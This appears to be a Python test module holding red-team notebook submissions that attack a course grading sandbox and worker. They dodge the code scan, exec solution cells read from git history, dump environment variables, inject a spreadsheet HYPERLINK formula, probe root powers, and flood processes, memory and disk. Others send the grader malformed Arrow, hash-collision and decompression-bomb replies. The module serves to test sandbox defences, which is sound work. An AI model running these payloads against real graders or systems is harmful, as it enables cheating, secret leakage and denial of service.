"""A red team's class: submissions that attack the sandbox and the grading worker, for the tests
and ``make bench``. Each is the source of one answer cell, the first of ch04_data_analysis
(``daily_kpis``), which prints what it reached; a blank notebook around it earns nothing unless
the attack works. Names are reached through importlib and string concatenation, as a submission
that dodges the code scan would.
"""

from __future__ import annotations

from nbformat import NotebookNode

from ..authoring.classroom import fill_answers, solution_sources

SUBPROCESS = 'import importlib\n_sp = importlib.import_module("sub" + "process")\n'
GIT_HISTORY = SUBPROCESS + '''import json, os
_read = []
for _git in [{checkout!r} + "/.git", os.getcwd() + "/.git"]:
    _found = _sp.run(["git", "--git-dir", _git, "show", "HEAD:solutions/{chapter}/{chapter}.ipynb"],
                     capture_output=True, text=True)
    if _found.returncode == 0:
        _read.append(_git)
        for _cell in json.loads(_found.stdout)["cells"]:
            if _cell["cell_type"] == "code" and _cell["metadata"].get("nbgrader", {{}}).get("solution"):
                exec("".join(_cell["source"]), globals())
print("git history read:", _read)
'''
ROOT_POWERS = SUBPROCESS + '''import os, socket
_status = open("/proc/self/status").read()
_seen = {{"CapEff": _status.split("CapEff:")[1].split()[0], "uid": os.getuid()}}
for _name, _command in {{"remount": ["mount", "-o", "remount,rw", "/"], "umount": ["umount", "-l", "/tmp"],
                         "mount": ["mount", "-t", "tmpfs", "none", "/tmp"]}}.items():
    _seen[_name] = _sp.run(_command, capture_output=True).returncode
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    _seen["raw socket"] = "opened"
except OSError as _error:
    _seen["raw socket"] = type(_error).__name__
for _path in {paths!r}:
    _seen[_path] = os.path.exists(_path)
try:
    open({sentinel!r}, "a").write("reached")
    _seen["write outside"] = "ok"
except OSError as _error:
    _seen["write outside"] = type(_error).__name__
print("root powers:", _seen)
'''
_REPLY = '''import struct, sys
def _framed(tree, *tables):
    parts = [tree, *tables]
    return struct.pack(">I", len(parts)) + b"".join(struct.pack(">Q", len(p)) + p for p in parts)
'''
_SWAP_SERIALISER = '''_probe = sys.modules["ecomcourse.grading." + "probe"]
_probe.dumps = lambda value: _EVIL
'''
CRASHING_REPLY = _REPLY + '''import pyarrow as pa
_column = pa.array(["a", "b", "c"])
_offsets = pa.py_buffer(struct.pack("<4i", 0, 1, 1 << 30, 3))  # far past the data
_bad = pa.Array.from_buffers(pa.string(), 3, [None, _offsets, _column.buffers()[2]])
_sink = pa.BufferOutputStream()
with pa.ipc.new_stream(_sink, pa.schema([("s", pa.string())])) as _writer:
    _writer.write_batch(pa.RecordBatch.from_arrays([_bad], ["s"]))
_EVIL = _framed(b'{"dict": [["returned", {"frame": 0}]]}', _sink.getvalue().to_pybytes())
''' + _SWAP_SERIALISER
SLOW_REPLY = _REPLY + '''import json
_same_hash = [[k * (2 ** 61 - 1), 0] for k in range(100_000)]  # every key hashes alike
_EVIL = _framed(json.dumps({"dict": [["returned", {"dict": _same_hash}], ["kind", "value"],
                                      ["value", {"dict": _same_hash}]]}).encode())
''' + _SWAP_SERIALISER
INFLATING_REPLY = _REPLY + '''import numpy as np, pyarrow as pa
_table = pa.table({"zeros": np.zeros(20_000_000, dtype="int64")})  # 160 MB, a few KB compressed
_sink = pa.BufferOutputStream()
with pa.ipc.new_stream(_sink, _table.schema, options=pa.ipc.IpcWriteOptions(compression="zstd")) as _writer:
    _writer.write_table(_table)
del _table
_EVIL = _framed(b'{"dict": [["returned", {"frame": 0}], ["kind", "value"], ["value", {"frame": 0}]]}',
                _sink.getvalue().to_pybytes())
''' + _SWAP_SERIALISER
PROCESS_HOG = '''import os
_started = 0
for _ in range(300):
    try:
        os.posix_spawn("/bin/sleep", ["sleep", "600"], {})
        _started += 1
    except OSError:
        break
print("processes started:", _started)
'''
MEMORY_HOG = SUBPROCESS + '''import sys
_hog = "b = bytearray(700 * 2 ** 20)\\nfor i in range(0, len(b), 4096): b[i] = 1\\nimport time; time.sleep(8)"
_children = [_sp.Popen([sys.executable, "-c", _hog]) for _ in range(4)]  # each within its own limit
print("children's exit codes:", [child.wait() for child in _children])
'''
SHARED_MEMORY_HOG = '''import os
_filled = {}
for _folder in ("/dev/shm", "/tmp"):
    _written = 0
    try:
        with open(os.path.join(_folder, "fill"), "wb") as _file:
            for _ in range(20):
                _file.write(bytes(100 * 2 ** 20))
                _file.flush()
                _written += 100
    except OSError as _error:
        _filled[_folder] = [_written, _error.errno]
    else:
        _filled[_folder] = [_written, 0]
print("filled:", _filled)
'''
DISK_HOG = '''_written = 0
try:
    for _n in range(30):  # 3 GB in 100 MB files, each within the file-size limit
        with open(f"fill-{_n}", "wb") as _file:
            _file.write(bytes(100 * 2 ** 20))
        _written += 100
except OSError as _error:
    print("job folder:", _written, _error.errno)
print("job folder:", _written)
'''
ENVIRONMENT = '''import os
def daily_kpis(*args, **kwargs):
    raise RuntimeError("; ".join(f"{key}={value}" for key, value in os.environ.items()))
'''
FORMULA = '''_Formula = type('=HYPERLINK("http://example.invalid/","open me")', (Exception,), {})
def daily_kpis(*args, **kwargs):
    raise _Formula("click")
'''


def attacks(checkout: str, chapter: str, private: list[str], sentinel: str) -> dict[str, str]:
    """Each attack's answer-cell source by name: ``private`` are paths no kernel may see,
    ``sentinel`` a file outside the job folder that none may write."""
    return {
        "git_history": GIT_HISTORY.format(checkout=checkout, chapter=chapter),
        "root_powers": ROOT_POWERS.format(paths=private, sentinel=sentinel),
        "crashing_reply": CRASHING_REPLY, "slow_reply": SLOW_REPLY, "inflating_reply": INFLATING_REPLY,
        "process_hog": PROCESS_HOG, "memory_hog": MEMORY_HOG, "shared_memory_hog": SHARED_MEMORY_HOG,
        "disk_hog": DISK_HOG, "environment": ENVIRONMENT, "formula": FORMULA,
    }


def attack_notebook(blank: NotebookNode, chapter: str, source: str) -> NotebookNode:
    """The blank notebook with ``source`` as its first answer cell."""
    return fill_answers(blank, {next(iter(solution_sources(chapter))): source})
